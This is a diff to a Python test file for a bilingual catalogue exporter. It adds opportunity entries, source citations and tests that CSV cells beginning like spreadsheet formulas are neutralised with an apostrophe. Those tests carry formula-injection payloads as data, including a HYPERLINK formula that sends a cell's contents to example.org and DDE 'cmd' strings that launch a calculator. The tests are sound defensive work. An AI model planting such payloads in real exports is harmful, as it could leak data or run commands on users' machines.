@@ -30,10 +30,10 @@ from innokatalog.load import load_catalogue
 from innokatalog.model import KIND_PLURALS, Catalogue
 from innokatalog.schema import SchemaSet
 
+from .conformance import material
+
 PROJECT = Path(__file__).resolve().parents[1]
 FIXTURE = Path(__file__).parent / "fixtures" / "export" / "catalogue"
-CONFORMANCE = Path(__file__).resolve().parents[1].parent / "shared" / "conformance"
-DCAT_AP = CONFORMANCE / "dcat-ap"
 SITE = "https://catalogue.example.org/"
 GENERATED = dt.datetime(2026, 11, 24, 8, 0, tzinfo=dt.UTC)
 ISSUED = dt.date(2026, 1, 1)
@@ -43,6 +43,7 @@ DATA_FILES = {
     "testbeds.csv",
     "projects.csv",
     "contacts.csv",
+    "opportunities.csv",
     "catalogue.jsonld",
 }
 ALL_FILES = DATA_FILES | {"catalogue.schema.json", "dcat.rdf", "dcat.jsonld"}
@@ -62,7 +63,7 @@ def schemas() -> SchemaSet:
 def catalogue() -> Catalogue:
     loaded = load_catalogue(FIXTURE)
     assert not loaded.findings, loaded.findings
-    assert loaded.files == len(loaded.entries) == 8
+    assert loaded.files == len(loaded.entries) == 9
     return Catalogue(loaded.entries)
 
 
@@ -174,8 +175,14 @@ def test_catalogue_json_envelope(catalogue_json: dict[str, Any]) -> None:
     assert catalogue_json["schema_version"] == export.SCHEMA_VERSION
     assert catalogue_json["generated"] == "2026-11-24T08:00:00Z"
     assert catalogue_json["site_url"] == SITE
-    assert catalogue_json["counts"] == {"units": 3, "testbeds": 2, "projects": 2, "contacts": 1}
-    assert catalogue_json["labels"]["testbed"]["status"]["active"] == {"sv": "Öppen", "en": "Active"}
+    assert catalogue_json["counts"] == {
+        "units": 3,
+        "testbeds": 2,
+        "projects": 2,
+        "contacts": 1,
+        "opportunities": 1,
+    }
+    assert catalogue_json["labels"]["testbed"]["status"]["active"] == {"sv": "Aktiv", "en": "Active"}
     assert catalogue_json["labels"]["testbed"]["access.cost_model"]["free"]["en"] == "Free of charge"
     assert catalogue_json["labels"]["project"]["areas"]["health-care"]["sv"] == "Hälso- och sjukvård"
 
@@ -207,6 +214,7 @@ def test_catalogue_json_resolves_relations_both_ways(catalogue_json: dict[str, A
         "owned_contacts": ["testbaddar"],
         "sub_units": [],
         "partner_in": [],
+        "owned_opportunities": ["stipendiet"],
     }
     assert units["region-exempel"]["related"]["sub_units"] == ["innovationsenheten"]
     assert units["region-exempel"]["related"]["owned_projects"] == ["fonden"]
@@ -216,8 +224,61 @@ def test_catalogue_json_resolves_relations_both_ways(catalogue_json: dict[str, A
         "way_in_to_units": ["innovationsenheten"],
         "way_in_to_testbeds": ["dataplattformen", "openlab"],
         "way_in_to_projects": ["fonden", "vard-hemma"],
+        "way_in_to_opportunities": ["stipendiet"],
     }
     assert by_id(catalogue_json, "projects")["vard-hemma"]["related"] == {}
+
+
+def test_catalogue_json_carries_sources_and_review_dates(catalogue_json: dict[str, Any]) -> None:
+    opportunity = by_id(catalogue_json, "opportunities")["stipendiet"]
+    assert opportunity["sources"] == [
+        {
+            "title": {
+                "sv": "Exempelstadens innovationsstrategi",
+                "en": "The example city's innovation strategy",
+            },
+            "publisher": "Exempelstaden",
+            "section": "2.4 Exempel",
+            "url": "https://example.org/strategi.pdf",
+        }
+    ]
+    assert opportunity["compiled"] == "2026-11-01" and "confirmed" not in opportunity
+    testbed = by_id(catalogue_json, "testbeds")["openlab"]
+    assert (testbed["compiled"], testbed["confirmed"]) == ("2026-10-15", "2026-11-01")
+    assert testbed["status_recorded"] == {
+        "date": "2026-11-01",
+        "source": {"sv": "Den ansvariga enheten", "en": "The owning unit"},
+    }
+
+
+def test_csv_writes_each_source_as_one_readable_citation(documents: dict[str, bytes]) -> None:
+    _, rows = read_csv(documents["opportunities.csv"])
+    assert rows[0]["sources"] == (
+        "Exempelstaden: Exempelstadens innovationsstrategi (datum anges inte), 2.4 Exempel, "
+        "https://example.org/strategi.pdf"
+    )
+    _, rows = read_csv(documents["units.csv"])
+    assert rows[0]["sources"] == (
+        "Region Exempel: Exempelregionens innovationsstrategi (2020-03-24), 4.4 Testmiljöer"
+    )
+
+
+def test_schema_org_names_the_sources_an_entry_is_based_on(catalogue: Catalogue) -> None:
+    item = catalogue.find("opportunity", "stipendiet")
+    node = export.jsonld_for(item, catalogue, SITE, "en")
+    assert node["@type"] == "Grant"
+    assert node["isBasedOn"] == [
+        {
+            "@type": "CreativeWork",
+            "name": "2.4 Exempel",
+            "isPartOf": {
+                "@type": "CreativeWork",
+                "name": "The example city's innovation strategy",
+                "publisher": {"@type": "Organization", "name": "Exempelstaden"},
+                "url": "https://example.org/strategi.pdf",
+            },
+        }
+    ]
 
 
 # --- CSV -------------------------------------------------------------------------------------------
@@ -237,7 +298,9 @@ def test_csv_has_one_row_per_entry(kind: str, catalogue: Catalogue, documents: d
     assert [row["id"] for row in rows] == [item.id for item in catalogue.of_kind(kind)]
     assert header[:3] == ["id", "url_sv", "url_en"]
     assert len(header) == len(set(header)), "column names must be unique"
-    assert {"name_sv", "name_en", "summary_sv", "summary_en", "reviewed"} <= set(header)
+    assert {"name_sv", "name_en", "summary_sv", "summary_en", "sources"} <= set(header)
+    assert {"compiled", "confirmed"} <= set(header)
+    assert not [name for name in header if name.startswith("sources_")], "sources are one column"
     for row in rows:
         assert None not in row, "a row has more cells than the header"
         assert row["url_sv"] == f"{SITE}{KIND_PLURALS[kind]}/{row['id']}/"
@@ -420,8 +483,9 @@ def test_script_json_cannot_end_the_script_element() -> None:
 
 
 def conformance_file(name: str) -> Path:
-    path = DCAT_AP / name
-    assert path.is_file(), f"conformance material missing: {path} (see /work/shared/conformance/README.md)"
+    """A file of the DCAT-AP shapes (conformance material: skipped where absent, see conformance.py)."""
+    path = material("dcat-ap") / name
+    assert path.is_file(), f"conformance material incomplete: {path} is missing"
     return path
 
 
@@ -595,3 +659,75 @@ def test_export_command_wants_an_absolute_site_url(project: Path) -> None:
     result = run_cli("export", "--site-url", "/relative/")
     assert result.exit_code == 2
     assert "absolute" in result.output
+
+
+# --- CSV cells are never formulas ----------------------------------------------------------------------
+
+HOSTILE = Path(__file__).parent / "fixtures" / "hostile" / "catalogue"
+
+
+@pytest.fixture(scope="module")
+def hostile_csv(schemas: SchemaSet) -> dict[str, dict[str, dict[str, str]]]:
+    """The CSV files of a valid catalogue whose texts begin with formulas: plural → id → column → cell."""
+    from innokatalog.validate import Options, validate
+
+    loaded = load_catalogue(HOSTILE)
+    assert not [f for f in validate(loaded, schemas, Options()) if f.is_error]  # such texts pass validation
+    documents = export.export_documents(Catalogue(loaded.entries), schemas, SITE, GENERATED, issued=ISSUED)
+    return {
+        plural: {row["id"]: row for row in read_csv(documents[f"{plural}.csv"])[1]}
+        for plural in ("units", "contacts")
+    }
+
+
+def test_csv_cells_that_begin_like_a_formula_get_an_apostrophe(hostile_csv) -> None:
+    unit, contact = hostile_csv["units"]["formelbolaget"], hostile_csv["contacts"]["formelkanalen"]
+    expected = {
+        (unit["name_sv"], '=HYPERLINK("https://example.org/?d="&A1,"Klicka")'),
+        (unit["name_en"], "+SUM(1+1)*cmd|' /C calc'!A0"),
+        (unit["summary_sv"], "-2+3+cmd|' /C calc'!A0"),
+        (unit["summary_en"], "@SUM(1+1)"),
+        (unit["tags"], "\t=1+1; vanlig"),
+        (contact["name_sv"], "\r=1+1"),
+        (contact["summary_sv"], "- en punkt i en lista, inte en formel"),
+        (contact["summary_en"], "=1+1"),
+    }
+    for cell, text in expected:
+        assert cell == "'" + text
+
+
+def test_csv_keeps_phone_numbers_and_plain_cells_as_written(hostile_csv) -> None:
+    contact = hostile_csv["contacts"]["formelkanalen"]
+    assert contact["channels_phone"] == "+46 8 123 456 78"
+    assert contact["name_en"] == "Formula channel"
+    assert contact["response_days"] == "5"
+
+
+def test_spreadsheet_safe_rule() -> None:
+    phone = export._phone_format("contact", SchemaSet(PROJECT / "schema"))["channels_phone"]
+    assert export.spreadsheet_safe("-12") == "-12"
+    assert export.spreadsheet_safe("+3.5") == "+3.5"
+    assert export.spreadsheet_safe("+46 8 123 456 78") == "'+46 8 123 456 78"  # outside a phone column
+    assert export.spreadsheet_safe("+46 8 123 456 78", phone) == "+46 8 123 456 78"
+    assert export.spreadsheet_safe("+46 8 123; =1+1", phone) == "'+46 8 123; =1+1"
+    assert export.spreadsheet_safe("=1+1", phone) == "'=1+1"
+    assert export.spreadsheet_safe("a=1") == "a=1"
+    assert export.spreadsheet_safe("") == ""
+
+
+@pytest.mark.parametrize(
+    ("lang", "tab", "carriage_return"), [("sv", "tabb", "vagnretur"), ("en", "a tab", "a carriage return")]
+)
+def test_the_open_data_page_states_the_spreadsheet_rule(lang: str, tab: str, carriage_return: str) -> None:
+    from html import unescape
+
+    from innokatalog.render import Renderer
+
+    from .mini import mini_catalogue
+
+    html = unescape(Renderer(mini_catalogue(), SchemaSet(PROJECT / "schema"), lang).open_data_page().html)
+    rule = html[html.index('id="spreadsheets"') :]
+    named = {"\t": tab, "\r": carriage_return}
+    for start in export.FORMULA_STARTS:
+        assert f"{named.get(start, start)}," in rule or f"{named.get(start, start)} " in rule, start
+    assert "(')" in rule and "+46 8 123 456 78" in rule and "-12" in rule
